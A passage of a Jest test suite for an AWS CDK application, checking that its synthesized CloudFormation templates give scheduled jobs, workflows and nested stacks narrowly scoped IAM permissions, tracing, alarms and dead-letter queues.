  it('leaves no CDK error or warning annotation on the stack', () => {
    // cdk-nag 3.x reports through the validation plugin above, not annotations; these catch CDK's own.
    const annotations = Annotations.fromStack(stack);
    expect(annotations.findError('*', Match.stringLikeRegexp('.*'))).toEqual([]);
    expect(annotations.findWarning('*', Match.stringLikeRegexp('.*'))).toEqual([]);
  });
});

describe('Scheduled jobs', () => {
  const cleanup = () => stack.scheduledJobs.functions.RemoveAbandonedSignups;

  it('runs the abandoned-signup clean-up hourly from an EventBridge schedule', () => {
    template.hasResourceProperties('AWS::Events::Rule', {
      ScheduleExpression: 'rate(1 hour)',
      State: 'ENABLED',
      Targets: Match.arrayWith([Match.objectLike({ Arn: { 'Fn::GetAtt': [logicalId(cleanup()), 'Arn'] } })]),
    });
    template.hasResourceProperties('AWS::Lambda::Permission', {
      Action: 'lambda:InvokeFunction',
      Principal: 'events.amazonaws.com',
      FunctionName: { 'Fn::GetAtt': [logicalId(cleanup()), 'Arn'] },
    });
  });

  it('finds abandoned signups through the sparse PendingVerification index, never a Scan', () => {
    const index = TABLE_DESIGN.pendingVerificationIndex;
    template.hasResourceProperties('AWS::DynamoDB::Table', {
      GlobalSecondaryIndexes: Match.arrayWith([
        {
          IndexName: index.indexName,
          KeySchema: [
            { AttributeName: index.partitionKey, KeyType: 'HASH' },
            { AttributeName: index.sortKey, KeyType: 'RANGE' },
          ],
          Projection: { ProjectionType: 'KEYS_ONLY' },
        },
      ]),
    });
    const statements = statementsOfRole(logicalId(cleanup().role!));
    const actions = statements.flatMap((statement) => [statement.Action].flat()).filter((action) => action.startsWith('dynamodb:'));
    expect(actions.sort()).toEqual(['dynamodb:ConditionCheckItem', 'dynamodb:DeleteItem', 'dynamodb:GetItem', 'dynamodb:Query'].sort());
    const query = statements.find((statement) => [statement.Action].flat().includes('dynamodb:Query'))!;
    expect(JSON.stringify(query.Resource)).toContain(`/index/${index.indexName}`);
    expect(JSON.stringify(query.Resource)).not.toContain('*');
  });

  it.each(SCHEDULED_JOBS.map((job) => [job.id]))('%s alarms on the shared topic when a run fails', (jobId) => {
    template.hasResourceProperties('AWS::CloudWatch::Alarm', {
      MetricName: 'Errors',
      Namespace: 'AWS/Lambda',
      Dimensions: [{ Name: 'FunctionName', Value: { Ref: logicalId(stack.scheduledJobs.functions[jobId]) } }],
      AlarmActions: [{ Ref: logicalId(stack.alarmTopic.topic) }],
    });
  });

  it('runs the DKIM sweep every 5 minutes: Query/update/delete on the base table and GetEmailIdentity on customer identities only', () => {
    const sweep = stack.scheduledJobs.functions.VerifyEmailDomains;
    template.hasResourceProperties('AWS::Events::Rule', {
      ScheduleExpression: 'rate(5 minutes)',
      Targets: Match.arrayWith([Match.objectLike({ Arn: { 'Fn::GetAtt': [logicalId(sweep), 'Arn'] } })]),
    });
    const statements = statementsOfRole(logicalId(sweep.role!));
    const actions = [...new Set(statements.flatMap((statement) => [statement.Action].flat()))].filter((action) => !/^(logs|xray):/.test(action)).sort();
    expect(actions).toEqual(['dynamodb:DeleteItem', 'dynamodb:Query', 'dynamodb:UpdateItem', 'ses:GetEmailIdentity']);
    const read = statements.find((statement) => [statement.Action].flat().includes('ses:GetEmailIdentity'))!;
    expect(text(read.Resource)).toContain(`identity/*.${cdkJson.context['stackpro:customerDomain']}`);
    const table = statements.find((statement) => [statement.Action].flat().includes('dynamodb:Query'))!;
    expect(JSON.stringify(table.Resource)).not.toContain('/index/');
  });

  it('no other function reaches any index (grants name the base table only), but the operators\' list its own', () => {
    // The customer table's indexes (the messaging table's conversation indexes are its own matter).
    const indexGrants = attachedPolicies(template).filter((policy) => /CustomerTable[^"]*"?[^}]*\/index\//.test(JSON.stringify(policy)) || JSON.stringify(policy).includes('/index/PendingVerification') || JSON.stringify(policy).includes('/index/CustomersByStatus'));
    expect(indexGrants).toHaveLength(2);
    const [pending, byStatus] = [TABLE_DESIGN.pendingVerificationIndex.indexName, TABLE_DESIGN.customersByStatusIndex.indexName].map((name) =>
      indexGrants.filter((policy) => JSON.stringify(policy).includes(`/index/${name}`)),
    );
    expect(pending.map((policy) => JSON.stringify(policy))).toEqual([expect.stringContaining(logicalId(cleanup().role!))]);
    expect(byStatus.map((policy) => JSON.stringify(policy))).toEqual([expect.stringContaining(logicalId(routeFunction('ListCustomers').role!))]);
  });

  it('lists customers through the CustomersByStatus index: status and creation time as keys, the list fields projected', () => {
    const index = TABLE_DESIGN.customersByStatusIndex;
    template.hasResourceProperties('AWS::DynamoDB::Table', {
      GlobalSecondaryIndexes: Match.arrayWith([
        {
          IndexName: index.indexName,
          KeySchema: [
            { AttributeName: 'status', KeyType: 'HASH' },
            { AttributeName: 'createdAt', KeyType: 'RANGE' },
          ],
          Projection: { ProjectionType: 'INCLUDE', NonKeyAttributes: [...index.projected] },
        },
      ]),
    });
    const query = statementsOfRole(logicalId(routeFunction('ListCustomers').role!)).filter((statement) => JSON.stringify(statement.Resource).includes('/index/'));
    expect(query.map((statement) => statement.Action)).toEqual(['dynamodb:Query']);
  });
});

describe('BillingSweeps', () => {
  function ownActions(fn: StackProFunction): string[] {
    return [...new Set(actionsOf(fn))].filter((action) => !/^(logs|xray):/.test(action)).sort();
  }

  it.each([
    ['SweepLapsedAccounts', 'cron(15 3 * * ? *)'],
    ['DeleteExpiredSnapshots', 'cron(45 3 * * ? *)'],
  ] as const)('runs %s daily from an EventBridge schedule (a job of the one jobs table)', (sweep, schedule) => {
    expect(SCHEDULED_JOBS.map((job) => job.id)).toContain(sweep);
    template.hasResourceProperties('AWS::Events::Rule', {
      ScheduleExpression: schedule,
      Targets: Match.arrayWith([Match.objectLike({ Arn: { 'Fn::GetAtt': [logicalId(stack.scheduledJobs.functions[sweep]), 'Arn'] } })]),
    });
  });

  it('the lapse sweep can Query and update the table (never Scan), read the Stripe keys and start only DeprovisionCustomer', () => {
    expect(ownActions(stack.scheduledJobs.functions.SweepLapsedAccounts)).toEqual(
      ['dynamodb:DeleteItem', 'dynamodb:GetItem', 'dynamodb:Query', 'dynamodb:UpdateItem', 'secretsmanager:DescribeSecret', 'secretsmanager:GetSecretValue', 'states:StartExecution'].sort(),
    );
    const starts = statementsOfRole(logicalId(stack.scheduledJobs.functions.SweepLapsedAccounts.role!)).filter((statement) => [statement.Action].flat().includes('states:StartExecution'));
    expect(starts.map((statement) => statement.Resource)).toEqual([{ Ref: logicalId(stack.lifecycle.stateMachines.DeprovisionCustomer) }]);
    expect(environmentOf(stack.scheduledJobs.functions.SweepLapsedAccounts)).toMatchObject({ BILLING_RETENTION_DAYS: String(cdkJson.context['stackpro:billingRetentionDays']) });
  });

  it('the snapshot sweep deletes only final backups tagged by the deprovision workflow, after stackpro:finalSnapshotRetentionDays', () => {
    expect(ownActions(stack.scheduledJobs.functions.DeleteExpiredSnapshots)).toEqual(['ec2:DeleteSnapshot', 'ec2:DescribeSnapshots']);
    const [deletion] = statementsOfRole(logicalId(stack.scheduledJobs.functions.DeleteExpiredSnapshots.role!)).filter((statement) => [statement.Action].flat().includes('ec2:DeleteSnapshot'));
    expect(deletion.Condition).toEqual({ StringEquals: { 'aws:ResourceTag/ManagedBy': 'stackpro', 'aws:ResourceTag/Purpose': 'final-backup' } });
    expect(text(deletion.Resource)).toContain('::snapshot/*');
    expect(environmentOf(stack.scheduledJobs.functions.DeleteExpiredSnapshots)).toMatchObject({ FINAL_SNAPSHOT_RETENTION_DAYS: String(cdkJson.context['stackpro:finalSnapshotRetentionDays']) });
  });

  it.each([METRICS.stripeWebhookSecretUnset, METRICS.stripeEventIgnored, METRICS.billingSweepErrors])('alarms on %s as the Lambdas emit it', (metricName) => {
    template.hasResourceProperties('AWS::CloudWatch::Alarm', {
      Namespace: METRICS.namespace,
      MetricName: metricName,
      Dimensions: [{ Name: 'service', Value: 'stackpro' }],
      Threshold: 1,
      AlarmActions: [{ Ref: logicalId(stack.alarmTopic.topic) }],
    });
  });
});

describe('X-Ray tracing', () => {
  it('traces every function actively, including the custom resource provider framework', () => {
    const functions = Object.values(template.findResources('AWS::Lambda::Function')) as Resource[];
    expect(functions.map((fn) => fn.Properties.TracingConfig)).toEqual(functions.map(() => ({ Mode: 'Active' })));
  });

  it('lets every function write its segments (the two X-Ray actions CDK grants, nothing more)', () => {
    const functions = Object.values(template.findResources('AWS::Lambda::Function')) as Resource[];
    for (const fn of functions) {
      const roleId = (fn.Properties.Role as { 'Fn::GetAtt': [string, string] })['Fn::GetAtt'][0];
      const xrayActions = statementsOfRole(roleId)
        .flatMap((statement) => [statement.Action].flat())
        .filter((action) => action.startsWith('xray:'));
      expect({ roleId, xrayActions: xrayActions.sort() }).toEqual({ roleId, xrayActions: ['xray:PutTelemetryRecords', 'xray:PutTraceSegments'] });
    }
  });

  it('traces every state machine', () => {
    const machines = [template, nestedTemplate].flatMap((one) => Object.values(one.findResources('AWS::StepFunctions::StateMachine')) as Resource[]);
    expect(machines).toHaveLength(CHECKED_WORKFLOWS.length);
    expect(machines.map((machine) => machine.Properties.TracingConfiguration)).toEqual(machines.map(() => ({ Enabled: true })));
  });

  it('traces the API stage', () => {
    const stages = Object.values(template.findResources('AWS::ApiGateway::Stage')) as Resource[];
    expect(stages.length).toBeGreaterThan(0);
    expect(stages.map((stage) => stage.Properties.TracingEnabled)).toEqual(stages.map(() => true));
  });
});

describe('StoppedExecutionRecovery', () => {
  const recovery = () => stack.stoppedExecutionRecovery;

  it('matches FAILED, TIMED_OUT and ABORTED status changes of exactly our five state machines (the resize through its nested stack\'s output)', () => {
    const rule = resourceOf(recovery().rule).Properties as { EventPattern: { detail: { stateMachineArn: unknown } } & Record<string, unknown> };
    expect(rule.EventPattern).toMatchObject({
      source: ['aws.states'],
      'detail-type': ['Step Functions Execution Status Change'],
      detail: { status: ['FAILED', 'TIMED_OUT', 'ABORTED'] },
    });
    const machines = MAIN_WORKFLOWS.map((workflow) => ({ Ref: logicalId(stateMachineOf(workflow)) }));
    const matched = rule.EventPattern.detail.stateMachineArn as unknown[];
    expect(matched.slice(0, -3)).toEqual(machines);
    expect(isResizeArn(matched.at(-3))).toBe(true);
    // Then the RestoreCustomer workflow's, an output of its nested stack.
    expect(matched.at(-2)).toEqual({ 'Fn::GetAtt': [expect.stringMatching(/^RestoreWorkflowNestedStack/), expect.stringMatching(/RestoreCustomerStateMachine/)] });
    // Then the FleetUpdate workflow's, likewise.
    expect(matched.at(-1)).toEqual({ 'Fn::GetAtt': [expect.stringMatching(/^FleetUpdateNestedStack/), expect.stringMatching(/FleetUpdateStateMachine/)] });
  });

  it('knows the FleetUpdate state machine by its ARN, and may not start it', () => {
    const env = (resourceOf(recovery().function).Properties as { Environment: { Variables: Record<string, unknown> } }).Environment.Variables;
    expect(env.FLEET_UPDATE_STATE_MACHINE_ARN).toEqual({ 'Fn::GetAtt': [expect.stringMatching(/^FleetUpdateNestedStack/), expect.stringMatching(/FleetUpdateStateMachine/)] });
    const starts = statementsOfRole(recoveryRole()).filter((statement) => [statement.Action].flat().includes('states:StartExecution'));
    expect(starts.map((statement) => text(statement.Resource)).join()).not.toContain('FleetUpdate');
  });

  it('tells the operators when any event lands in the dead-letter queue', () => {
    const alarm = resourceOf(recovery().deadLetterAlarm).Properties as Record<string, unknown>;
    expect(alarm).toMatchObject({
      MetricName: 'ApproximateNumberOfMessagesVisible',
      Namespace: 'AWS/SQS',
      Dimensions: [{ Name: 'QueueName', Value: { 'Fn::GetAtt': [logicalId(recovery().deadLetterQueue), 'QueueName'] } }],
      Threshold: 1,
      ComparisonOperator: 'GreaterThanOrEqualToThreshold',
      AlarmActions: [{ Ref: logicalId(stack.alarmTopic.topic) }],
    });
  });

  it('delivers to the function with a retry policy and a dead-letter queue, as do failed invocations', () => {
    const rule = resourceOf(recovery().rule).Properties as { Targets: Record<string, unknown>[] };
    const queue = logicalId(recovery().deadLetterQueue);
    expect(rule.Targets).toEqual([
      expect.objectContaining({
        Arn: { 'Fn::GetAtt': [logicalId(recovery().function), 'Arn'] },
        RetryPolicy: { MaximumEventAgeInSeconds: 86400, MaximumRetryAttempts: 8 },
        DeadLetterConfig: { Arn: { 'Fn::GetAtt': [queue, 'Arn'] } },
      }),
    ]);
    template.hasResourceProperties('AWS::Lambda::EventInvokeConfig', {
      FunctionName: { Ref: logicalId(recovery().function) },
      MaximumRetryAttempts: 2,
      DestinationConfig: { OnFailure: { Destination: { 'Fn::GetAtt': [queue, 'Arn'] } } },
    });
    expect(resourceOf(recovery().deadLetterQueue).Properties).toMatchObject({ SqsManagedSseEnabled: true, MessageRetentionPeriod: 1209600 });
    expect(acknowledgementsOf(recovery().deadLetterQueue)).toHaveProperty(['AwsSolutions-SQS3']);
  });

  it('may undo a provisioning and start lifecycle workflows, but never start a provisioning or touch other servers', () => {
    const actions = actionsOf(recovery().function);
    expect(actions).toEqual(expect.arrayContaining(['ec2:TerminateInstances', 'ses:DeleteEmailIdentity', 'route53:ChangeResourceRecordSets', 'states:StartExecution']));
    expect(actions).not.toEqual(expect.arrayContaining(['ec2:RunInstances']));
    const provisioning = text({ Ref: logicalId(stack.provisioning.stateMachine) });
    const starts = statementsOfRole(recoveryRole()).filter((statement) => [statement.Action].flat().includes('states:StartExecution'));
    expect(starts.map((statement) => text(statement.Resource)).join()).not.toContain(provisioning);
    expect(environmentOf(recovery().function)).toMatchObject({
      PROVISIONING_STATE_MACHINE_ARN: { Ref: logicalId(stack.provisioning.stateMachine) },
      SUSPEND_STATE_MACHINE_ARN: expect.anything(),
      TABLE_NAME: expect.anything(),
    });
  });
});

// Messaging (lib/messaging-stack.ts): its nested template, from this file's one synth.
const messagingRoutes = ROUTES.filter((route) => route.stack === 'messaging');
let messagingNested: Template;
beforeAll(() => {
  messagingNested = Template.fromStack(stack.messaging);
});

describe('the messaging nested stack', () => {
  it('holds the channel steps and the history expiry job; the workflows in the main stack invoke the steps by the nested stack\'s outputs', () => {
    for (const step of MESSAGING_STEPS) {
      const fn = stack.messaging.operations.stepFunctions[step.id]!;
      expect(Stack.of(fn)).toBe(stack.messaging);
      expect(stack.provisioning.stepFunctions[`${step.id}FunctionArn`]).toBe(fn);
    }
    expect(stack.lifecycle.stepFunctions.DeprovisionCustomer.ReleaseMessagingChannelsFunctionArn).toBe(stack.messaging.operations.stepFunctions.ReleaseMessagingChannels);
    expect(stack.resize.stepFunctions.AllocateMessagingChannelsFunctionArn).toBe(stack.messaging.operations.stepFunctions.AllocateMessagingChannels);
    for (const job of MESSAGING_JOBS) expect(Stack.of(stack.messaging.operations.jobs.functions[job.id]!)).toBe(stack.messaging);
    messagingNested.hasResourceProperties('AWS::Events::Rule', { ScheduleExpression: 'cron(15 4 * * ? *)' });
  });

  it('lets only the release step and the stopped-provisioning clean-up release numbers, and only numbers tagged ManagedBy=stackpro', () => {
    const releasers = [template, messagingNested, nestedTemplate].flatMap((owner) =>
      Object.entries(owner.findResources('AWS::IAM::Role')).filter(([, role]) => JSON.stringify(role).includes('sms-voice:ReleasePhoneNumber')).map(([id, role]) => ({ id, role })),
    );
    expect(releasers.map(({ id }) => id).sort()).toEqual([logicalId(stack.messaging.operations.stepFunctions.ReleaseMessagingChannels!.role!), recoveryRole()].sort());
    for (const { role } of releasers) {
      const statements = (role as { Properties: { Policies: { PolicyDocument: { Statement: Statement[] } }[] } }).Properties.Policies.flatMap((policy) => policy.PolicyDocument.Statement);
      const release = statements.filter((statement) => [statement.Action].flat().includes('sms-voice:ReleasePhoneNumber'));
      expect(release).toEqual([expect.objectContaining({ Action: 'sms-voice:ReleasePhoneNumber', Condition: { StringEquals: { 'aws:ResourceTag/ManagedBy': 'stackpro' } } })]);
    }
    // Requesting numbers: only the allocation step, only tagged ManagedBy=stackpro.
    const requesters = [template, messagingNested].flatMap((owner) => Object.entries(owner.findResources('AWS::IAM::Role')).filter(([, role]) => JSON.stringify(role).includes('sms-voice:RequestPhoneNumber')).map(([id]) => id));
    expect(requesters).toEqual([logicalId(stack.messaging.operations.stepFunctions.AllocateMessagingChannels!.role!)]);
  });

  it('holds the messaging table: pay per request, PITR, encrypted, retained, streaming new images, four conversation indexes', () => {
    messagingNested.hasResource('AWS::DynamoDB::Table', {
      DeletionPolicy: 'Retain',
      Properties: Match.objectLike({
        BillingMode: 'PAY_PER_REQUEST',
        PointInTimeRecoverySpecification: { PointInTimeRecoveryEnabled: true },
        SSESpecification: { SSEEnabled: true },
        StreamSpecification: { StreamViewType: 'NEW_IMAGE' },
        GlobalSecondaryIndexes: Object.values(MESSAGING_TABLE_DESIGN.conversationIndexes).map((index) =>
          Match.objectLike({ IndexName: index.indexName, KeySchema: [{ AttributeName: index.partitionKey, KeyType: 'HASH' }, { AttributeName: 'activityKey', KeyType: 'RANGE' }] }),
        ),
      }),
    });
    template.resourceCountIs('AWS::DynamoDB::Table', 1);
  });

  it('has the messaging routes\' functions and methods (on the same REST API), and the stage is deployed after them', () => {
    const api = logicalId(stack.accountApi.api);
    for (const route of messagingRoutes) {
      const fn = routeFunction(route.id);
      expect(Stack.of(fn)).toBe(stack.messaging);
      messagingNested.hasResourceProperties('AWS::Lambda::Function', { Runtime: 'nodejs24.x', Architectures: ['arm64'], TracingConfig: { Mode: 'Active' }, Description: `${route.method} ${route.path}` });
      messagingNested.hasResourceProperties('AWS::ApiGateway::Method', {
        OperationName: route.id,
        HttpMethod: route.method,
        // The widget's visitor routes are public (the handler checks key, origin and visitor token); staff routes use the JWT authorizer.
        AuthorizationType: route.auth === 'public' ? 'NONE' : 'CUSTOM',
        RestApiId: { Ref: `referenceto${importedName(stack.accountApi.api)}Ref` },
      });
      expect(Object.keys(template.findResources('AWS::ApiGateway::Method', { Properties: { OperationName: route.id } }))).toEqual([]);
    }
    // The nested stack is given the main stack's API, and the stage's deployment waits for its methods.
    const nestedStack = template.findResources('AWS::CloudFormation::Stack');
    const messagingStackId = Object.keys(nestedStack).find((id) => id.startsWith('MessagingNestedStack'))!;
    expect(JSON.stringify(nestedStack[messagingStackId])).toContain(`"Ref":"${api}"`);
    const deployments = template.findResources('AWS::ApiGateway::Deployment');
    expect(Object.values(deployments)).toHaveLength(1);
    expect((Object.values(deployments)[0] as { DependsOn: string[] }).DependsOn).toContain(messagingStackId);
  });

  it('grants each route exactly its access: reads never Scan, only the send route may send, from the account\'s numbers', () => {
    for (const route of messagingRoutes) {
      const statements = statementsOfRoleIn(messagingNested, logicalId(routeFunction(route.id).role!));
      const actions = statements.flatMap((statement) => [statement.Action].flat());
      expect(actions).not.toContain('dynamodb:Scan');
      expect(actions.includes('sms-voice:SendTextMessage')).toBe(route.access.includes('messaging:send'));
      expect(actions.includes('social-messaging:SendWhatsAppMessage')).toBe(route.access.includes('messaging:send'));
      // PutItem on the messaging table, or on the customer table for the widget's rate counters (table:write).
      expect(actions.includes('dynamodb:PutItem')).toBe(route.access.includes('messaging:write') || route.access.includes('table:write'));
    }
  });

  it('builds the widget\'s script URL from the REST API id (never the stage), and gives the public keys only to routes that verify visitor tokens', () => {
    const functions = messagingNested.findResources('AWS::Lambda::Function');
    const variablesOf = (routeId: string) =>
      (functions[logicalId(routeFunction(routeId))] as { Properties: { Environment: { Variables: Record<string, unknown> } } }).Properties.Environment.Variables;
    for (const routeId of ['GetMessagingChannels', 'GetWidgetSettings']) {
      const url = JSON.stringify(variablesOf(routeId).MESSAGING_WIDGET_URL);
      expect(url).toContain(`{"Ref":"referenceto${importedName(stack.accountApi.api)}Ref"}`);
      expect(url).toContain('/v1/widget');
      expect(url).not.toMatch(/Stage|Deployment/);
    }
    for (const route of messagingRoutes) {
      expect(`${route.id}: ${'JWT_PUBLIC_KEYS_SECRET_ID' in variablesOf(route.id)}`).toBe(`${route.id}: ${route.access.includes('signing-key:verify')}`);
    }
  });

  it('subscribes one inbound function to each encrypted, SSL-only topic End User Messaging may publish to', () => {
    messagingNested.resourceCountIs('AWS::SNS::Topic', 2);
    messagingNested.allResourcesProperties('AWS::SNS::Topic', { KmsMasterKeyId: Match.anyValue() });
    messagingNested.resourceCountIs('AWS::SNS::Subscription', 2);
    messagingNested.hasResourceProperties('AWS::SNS::TopicPolicy', {
      PolicyDocument: { Statement: Match.arrayWith([Match.objectLike({ Action: 'sns:Publish', Principal: { Service: 'sms-voice.amazonaws.com' } })]) },
    });
    messagingNested.hasResourceProperties('AWS::SNS::TopicPolicy', {
      PolicyDocument: { Statement: Match.arrayWith([Match.objectLike({ Action: 'sns:Publish', Principal: { Service: 'social-messaging.amazonaws.com' } })]) },
    });
    messagingNested.hasResourceProperties('AWS::KMS::Key', { EnableKeyRotation: true });
  });

  it('keeps the main stack within its resource budget: the messaging routes add nothing there', () => {
    expect(Object.keys(template.toJSON().Resources).length).toBeLessThanOrEqual(490);
    expect(Object.keys(messagingNested.toJSON().Resources).length).toBeLessThan(200);
  });
});

describe('ResizeWorkflow nested stack', () => {
  it('keeps the main stack within its budget: the resize adds one resource there (the nested stack) and its own template holds the rest', () => {
    const main = Object.keys(template.toJSON().Resources).length;
    const nested = Object.keys(nestedTemplate.toJSON().Resources).length;
    expect(main).toBeLessThanOrEqual(490);
    expect(Object.keys(template.findResources('AWS::CloudFormation::Stack')).filter((id) => id.startsWith('ResizeWorkflowNestedStack'))).toHaveLength(1);
    // Per own step: function, role (grants inline), log group; plus the state machine, its role, the role's policy and log group, and two alarms.
    expect(nested).toBe(3 * RESIZE_ONLY_STEPS.length + 4 + 2);
  });

  it('is checked by cdk-nag like the main stack: no unacknowledged finding, and no CDK error or warning', () => {
    const report = nagChecks.validateScope(stack.resize);
    expect(report.violations.map((violation) => `${violation.ruleName}: ${violation.violatingResources.map((r) => r.constructPath).join(', ')}`)).toEqual([]);
    expect(report.success).toBe(true);
    // A nested stack is no cloud assembly artifact (Annotations.fromStack cannot read it): its constructs' own metadata.
    const annotations = stack.resize.node.findAll().flatMap((construct) => construct.node.metadata.filter((entry) => ['aws:cdk:error', 'aws:cdk:warning'].includes(entry.type)));
    expect(annotations).toEqual([]);
  });

  it('cdk-nag does reach into a nested stack (a finding there fails the checks)', () => {
    const probe = new App();
    const parent = new Stack(probe, 'Parent');
    const nested = new NestedStack(parent, 'Nested');
    new sqs.Queue(nested, 'Unencrypted', { encryption: sqs.QueueEncryption.UNENCRYPTED });
    const report = applyNagChecks(probe).validateScope(probe);
    expect(report.violations.flatMap((violation) => violation.violatingResources.map((r) => r.constructPath)).some((path) => path?.startsWith('Parent/Nested/'))).toBe(true);
  });

  it('reuses provisioning\'s Point subdomain (no copy) and creates only the resize\'s own steps', () => {
    expect(stack.resize.stepFunctions.PointSubdomainFunctionArn).toBe(stack.provisioning.stepFunctions.PointSubdomainFunctionArn);
    const own = Object.values(stack.resize.stepFunctions).filter((fn) => Stack.of(fn) === stack.resize);
    expect(own.map((fn) => fn.node.id).sort()).toEqual(RESIZE_ONLY_STEPS.map((step) => step.id).sort());
  });

  it('alarms on failed and timed-out resizes, on the operators\' topic (passed in from the main stack)', () => {
    for (const metricName of ['ExecutionsFailed', 'ExecutionsTimedOut']) {
      nestedTemplate.hasResourceProperties('AWS::CloudWatch::Alarm', {
        Namespace: 'AWS/States',
        MetricName: metricName,
        Dimensions: [{ Name: 'StateMachineArn', Value: { Ref: logicalId(stack.resize.stateMachine) } }],
        AlarmActions: [{ Ref: `referenceto${importedName(stack.alarmTopic.topic)}Ref` }],
      });
    }
  });

  it('ChangePlan and AdminChangePlan may start only the resize (no lifecycle workflow, no provisioning)', () => {
    for (const routeId of ['ChangePlan', 'AdminChangePlan']) {
      const statements = statementsOfRole(logicalId(routeFunction(routeId).role!));
      const starts = statements.filter((statement) => [statement.Action].flat().includes('states:StartExecution'));
      const resources = starts.flatMap((statement) => [statement.Resource].flat());
      expect(resources).toHaveLength(1);
      expect(isResizeArn(resources[0])).toBe(true);
      const environment = environmentOf(routeFunction(routeId));
      expect(isResizeArn(environment.RESIZE_STATE_MACHINE_ARN)).toBe(true);
      expect(Object.keys(environment).filter((name) => /STATE_MACHINE_ARN$/.test(name))).toEqual(['RESIZE_STATE_MACHINE_ARN']);
      expect(JSON.parse(environment.STRIPE_PRICE_IDS as string)).toEqual(cdkJson.context['stackpro:stripePriceIds']);
    }
    const resizeStarters = grantsOf('states:StartExecution').filter(({ statement }) => [statement.Resource].flat().some(isResizeArn)).map(({ role }) => role);
    expect(resizeStarters.sort()).toEqual(
      [...ROUTES.filter((route) => route.access.includes('resize:start')).map((route) => logicalId(routeFunction(route.id).role!)), recoveryRole()].sort(),
    );
  });

  it('puts the previous price back with the Stripe keys and the plan prices, and nothing else of billing', () => {
    const environment = environmentOf(stack.resize.stepFunctions.PutBackPreviousPriceFunctionArn!);
    expect(JSON.parse(environment.STRIPE_PRICE_IDS as string)).toEqual(cdkJson.context['stackpro:stripePriceIds']);
    expect(environment.STRIPE_SECRET_ID).toEqual({ Ref: `referenceto${importedName(stack.stripeKeys.secret)}Ref` });
  });
});

describe('RestoreWorkflow nested stack', () => {
  let nested: Template;
  const nestedId = (construct: IConstruct) => stack.restoreWorkflow.resolve((construct.node.defaultChild as CfnElement).logicalId) as string;
  const statementsOf = (stepId: string) => {
    const fn = Object.values(stack.restoreWorkflow.stepFunctions).find((candidate) => candidate.node.id === stepId)!;
    return statementsOfRoleIn(nested, nestedId(fn.role!));
  };
  const withAction = (statements: Statement[], action: string) => statements.filter((statement) => [statement.Action].flat().includes(action));

  beforeAll(() => {
    nested = Template.fromStack(stack.restoreWorkflow);
  });

  it('holds the RestoreCustomer state machine from its ASL file; steps other workflows have are their functions, passed in', () => {
    const machines = nested.findResources('AWS::StepFunctions::StateMachine');
    expect(Object.keys(machines)).toHaveLength(1);
    const properties = (Object.values(machines)[0] as Resource).Properties;
    expect(properties.DefinitionString).toBe(readDefinition(RESTORE_CUSTOMER));
    // Only the restore's own steps are new functions; the main stack's count is unchanged by them.
    const own = Object.values(RESTORE_CUSTOMER.steps).filter((step) => step.handler.startsWith('restore/'));
    nested.resourceCountIs('AWS::Lambda::Function', own.length);
    expect(Object.keys(properties.DefinitionSubstitutions as object).sort()).toEqual(Object.keys(RESTORE_CUSTOMER.steps).sort());
  });

  it('Start restore job may start restore jobs into the vault and pass only the backup role, only to AWS Backup', () => {
    const statements = statementsOf('StartRestoreJob');
    expect(text(withAction(statements, 'backup:StartRestoreJob'))).toContain('CustomerBackupsVault');
    const passRole = withAction(statements, 'iam:PassRole');
    expect(passRole).toHaveLength(1);
    expect(passRole[0]!.Condition).toEqual({ StringEquals: { 'iam:PassedToService': 'backup.amazonaws.com' } });
    expect(text(passRole[0]!.Resource)).toContain('BackupRole');
    expect(withAction(statements, 'ec2:AttachVolume')).toEqual([]);
  });

  it.each([
    ['DetachVolume', 'ec2:DetachVolume'],
    ['AttachVolume', 'ec2:AttachVolume'],
    ['AttachVolume', 'ec2:ModifyInstanceAttribute'],
    ['DeleteVolume', 'ec2:DeleteVolume'],
  ])('%s acts only on volumes and instances tagged ManagedBy=stackpro', (stepId, action) => {
    const grants = withAction(statementsOf(stepId), action);
    expect(grants.length).toBeGreaterThan(0);
    for (const grant of grants) expect(grant.Condition).toEqual({ StringEquals: { 'aws:ResourceTag/ManagedBy': 'stackpro' } });
    // Deleting is the delete step's alone.
    if (stepId !== 'DeleteVolume') expect(withAction(statementsOf(stepId), 'ec2:DeleteVolume')).toEqual([]);
  });

  it('AWS Backup may create restored volumes only tagged ManagedBy=stackpro, and tag them only while creating them', () => {
    const backupRole = logicalId(stack.customerBackups.backupRole);
    const statements = statementsOfRole(backupRole);
    const create = withAction(statements, 'ec2:CreateVolume').find((statement) => text(statement.Resource).includes(':volume/'));
    expect(create?.Condition).toEqual({ StringEquals: { 'aws:RequestTag/ManagedBy': 'stackpro' } });
    const tag = withAction(statements, 'ec2:CreateTags').find((statement) => text(statement.Resource).includes(':volume/'));
    expect(tag?.Condition).toEqual({ StringEquals: { 'ec2:CreateAction': 'CreateVolume' } });
  });

  it('only the restore route and the stopped-execution handler may start it; OperationsMonitoring watches it', () => {
    const starters = grantsOf('states:StartExecution').filter(({ statement }) => text(statement.Resource).includes('RestoreCustomerStateMachine'));
    expect(starters.map(({ role }) => role).sort()).toEqual([logicalId(routeFunction('AdminRestoreCustomer').role!), recoveryRole()].sort());
    expect(environmentOf(routeFunction('AdminRestoreCustomer'))).toHaveProperty('RESTORE_STATE_MACHINE_ARN');
    expect(stack.operationsMonitoring.alarms).toHaveProperty('RestoreCustomerExecutionsFailedAlarm');
    expect(stack.operationsMonitoring.alarms).toHaveProperty('RestoreCustomerExecutionsTimedOutAlarm');
  });
});

// The FleetUpdate workflow's nested stack (lib/fleet-update-stack.ts), from this file's one synth (cdk-nag ran on it too).
let fleetTemplate: Template | undefined;
const nested = () => (fleetTemplate ??= Template.fromStack(stack.fleetUpdate));

const fleetActionsOf = (statements: Statement[]) => statements.flatMap((statement) => [statement.Action].flat());
/** Every statement of a step function's role, in the nested stack's template. */
const fleetStepRole = (stepId: string) => {
  const fn = Object.values(stack.fleetUpdate.stepFunctions).find((candidate) => candidate.node.id === stepId)!;
  return statementsOfRoleIn(nested(), stack.fleetUpdate.resolve((fn.role!.node.defaultChild as CfnElement).logicalId) as string);
};

describe('FleetUpdateStack', () => {
  it('holds the state machine and one function per step, outside the main stack (which stays under 490 resources)', () => {
    nested().resourceCountIs('AWS::StepFunctions::StateMachine', 1);
    nested().resourceCountIs('AWS::Lambda::Function', Object.keys(FLEET_UPDATE.steps).length);
    expect(Object.keys(template.findResources('AWS::CloudFormation::Stack')).filter((id) => id.startsWith('FleetUpdateNestedStack'))).toHaveLength(1);
    expect(Object.keys(template.toJSON().Resources).length).toBeLessThanOrEqual(490);
    expect(JSON.stringify(nested().toJSON())).toContain('MaxConcurrencyPath');
  });

